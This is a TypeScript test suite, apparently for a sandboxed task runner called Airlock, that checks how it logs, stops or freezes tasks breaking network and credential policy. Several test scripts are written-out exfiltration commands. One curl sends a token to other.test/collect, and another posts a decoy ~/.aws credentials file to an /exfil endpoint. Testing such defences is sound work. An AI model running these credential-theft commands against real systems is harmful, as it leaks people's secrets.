import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../main/core/clock.js';
import { CredentialStore } from '../../main/core/credentials/store.js';
import { listTaskObjects } from '../../main/core/engine/leftovers.js';
import { Gateway } from '../../main/core/gateway/gateway.js';
import { TaskRunner } from '../../main/core/tasks/runner.js';
import { requestResume } from '../../main/core/tasks/stop.js';
import { harness, lines, REPO, specFrom, waitFor } from '../helpers/env.js';
import { MemorySecrets } from '../helpers/memory-secrets.js';
import { startRemotes } from '../helpers/remotes.js';

let remotes: Awaited<ReturnType<typeof startRemotes>>;
beforeAll(async () => {
  remotes = await startRemotes();
});
afterAll(async () => {
  await remotes.close();
});

function setup() {
  const h = harness();
  // The keychain is not under test here.
  const store = new CredentialStore(h.home.root, new MemorySecrets());
  store.add({ name: 'vendor-api', secret: 'violations-secret', hosts: ['api.vendor.test'] });
  const gateway = new Gateway({ bus: h.bus, clock: systemClock, resolve: remotes.resolve, dial: remotes.dial, upstreamCa: fs.readFileSync(remotes.cert, 'utf8') });
  const runner = new TaskRunner({ engine: h.engine, bus: h.bus, clock: systemClock, home: h.home, gateway, assetsDir: path.join(REPO, 'assets'), credentials: store });
  return { ...h, runner };
}

const PROBE = (n: number) => `for i in $(seq ${n}); do curl -s -o /dev/null -w '%{http_code} ' http://other.test/$i; done; echo; echo probed`;

describe('onViolation', () => {
  it('log: the violation is recorded and the task goes on', async () => {
    const { root, events, runner } = setup();
    const outcome = await runner.run(specFrom(root, `name: noisy\ncommand: ["sh", "-c", "${PROBE(4)}; echo finished"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\nmaxRefusedRequests: 2\nonViolation: log\n`));
    expect(outcome).toMatchObject({ status: 'exited', exitCode: 0 });
    expect(lines(events)).toContain('finished');
    const violations = events.filter((e) => e.kind === 'policy.violation');
    expect(violations).toHaveLength(1);
    expect(violations[0]).toMatchObject({ decision: { allow: false, rule: 'maxRefusedRequests' }, data: { reason: 'more than 2 refused requests', action: 'log' } });
  });

  it('stop: a credential misuse ends the task at once, as stopped by Airlock', async () => {
    const { root, events, runner, engine } = setup();
    const script = 'curl -s -o /dev/null -H \\"X-Leak: $VENDOR_TOKEN\\" http://other.test/collect; echo sent; sleep 30; echo never';
    const started = Date.now();
    const outcome = await runner.run(specFrom(root, `name: leaker\ncommand: ["sh", "-c", "${script}"]\ncredentials: [{ name: vendor-api, env: VENDOR_TOKEN }]\nnetwork: { mode: allowlist, allow: [api.vendor.test, other.test] }\nonViolation: stop\n`));
    expect(outcome.status).toBe('stopped');
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(lines(events)).not.toContain('never');
    const kinds = events.map((e) => e.kind);
    expect(kinds).toContain('cred.misuse');
    expect(kinds).toContain('task.stopped');
    expect(kinds.indexOf('cred.revoked')).toBeGreaterThan(kinds.indexOf('task.stopped'));
    expect((await listTaskObjects(engine)).find((t) => t.task === outcome.task)).toBeUndefined();
  });

  it('freeze: paused with grants revoked; resume lets it go on; stop still works after', async () => {
    const { root, events, runner, engine, home } = setup();
    const script = `${PROBE(3)}; i=0; while true; do i=$((i+1)); echo tick $i; sleep 0.2; done`;
    const controller = new AbortController();
    const running = runner.run(specFrom(root, `name: freezer\ncommand: ["sh", "-c", "${script}"]\ncredentials: [{ name: vendor-api, env: VENDOR_TOKEN }]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\nmaxRefusedRequests: 2\nonViolation: freeze\n`), { signal: controller.signal });
    const frozen = await waitFor(async () => events.find((e) => e.kind === 'task.frozen'), 'the task to freeze');
    expect(frozen.data.reason).toBe('more than 2 refused requests');
    expect(events.some((e) => e.kind === 'cred.revoked')).toBe(true);
    const [objects] = (await listTaskObjects(engine)).filter((t) => t.task === frozen.task);
    const states = await Promise.all(objects!.containers.map(async (c) => (await engine.api.getContainer(c.id).inspect()).State.Paused));
    expect(states).toEqual([true, true]);
    const ticksWhenFrozen = lines(events).filter((l) => l.startsWith('tick')).length;
    await new Promise((r) => setTimeout(r, 800));
    expect(lines(events).filter((l) => l.startsWith('tick')).length).toBe(ticksWhenFrozen);

    requestResume(home, frozen.task);
    await waitFor(async () => events.find((e) => e.kind === 'task.resumed'), 'the task to resume');
    await waitFor(async () => (lines(events).filter((l) => l.startsWith('tick')).length > ticksWhenFrozen + 2 ? true : undefined), 'ticks after resuming');
    controller.abort();
    const outcome = await running;
    expect(outcome.status).toBe('cancelled');
    expect((await listTaskObjects(engine)).find((t) => t.task === frozen.task)).toBeUndefined();
  });

  it('a frozen task can be stopped without resuming it', async () => {
    const { root, events, runner, engine } = setup();
    const controller = new AbortController();
    const running = runner.run(specFrom(root, `name: frozen-stop\ncommand: ["sh", "-c", "${PROBE(2)}; sleep 60"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\nmaxRefusedRequests: 1\nonViolation: freeze\n`), { signal: controller.signal });
    const frozen = await waitFor(async () => events.find((e) => e.kind === 'task.frozen'), 'the task to freeze');
    controller.abort();
    expect((await running).status).toBe('cancelled');
    expect((await listTaskObjects(engine)).find((t) => t.task === frozen.task)).toBeUndefined();
  });

  it('a decoy secret used in a request is a violation: here it stops the task', async () => {
    const { root, events, runner } = setup();
    const script = 'echo \\"key: ${AWS_SECRET_ACCESS_KEY:0:4}…\\"; curl -s -o /dev/null -w \\"%{http_code}\\\\n\\" -H \\"X-Api-Key: $AWS_SECRET_ACCESS_KEY\\" http://api.vendor.test/upload; sleep 30; echo never';
    const outcome = await runner.run(specFrom(root, `name: decoyed\ncommand: ["bash", "-c", "${script}"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\ndecoys: { env: [AWS_SECRET_ACCESS_KEY] }\nonViolation: stop\n`));
    expect(outcome.status).toBe('stopped');
    const violation = events.find((e) => e.kind === 'policy.violation' && e.data.rule === 'decoy');
    expect(violation?.data.reason).toBe('the decoy $AWS_SECRET_ACCESS_KEY was sent to api.vendor.test:80');
    // stopped at once: whether curl got to print the 403 first is a race, so it is not asserted
    expect(lines(events)).not.toContain('never');
    expect(remotes.requests.some((r) => r.url === '/upload')).toBe(false);
  });

  it('a decoy credentials file planted in the workspace, read and posted in a body, is caught', async () => {
    const { root, events, runner } = setup();
    const script = 'cat /workspace/.aws/credentials | head -1; curl -s -o /dev/null -w \\"%{http_code}\\\\n\\" --data-binary @/workspace/.aws/credentials http://api.vendor.test/exfil; echo done';
    const outcome = await runner.run(specFrom(root, `name: reader\ncommand: ["sh", "-c", "${script}"]\nnetwork: { mode: allowlist, allow: [api.vendor.test] }\ndecoys: { files: [/workspace/.aws/credentials] }\n`));
    expect(outcome.exitCode).toBe(0);
    expect(lines(events)[0]).toBe('[default]');
    expect(lines(events)).toContain('403');
    expect(events.find((e) => e.kind === 'policy.violation' && e.data.rule === 'decoy')?.data.reason).toBe('the decoy /workspace/.aws/credentials was sent to api.vendor.test:80');
    expect(remotes.requests.some((r) => r.url === '/exfil')).toBe(false);
  });
});
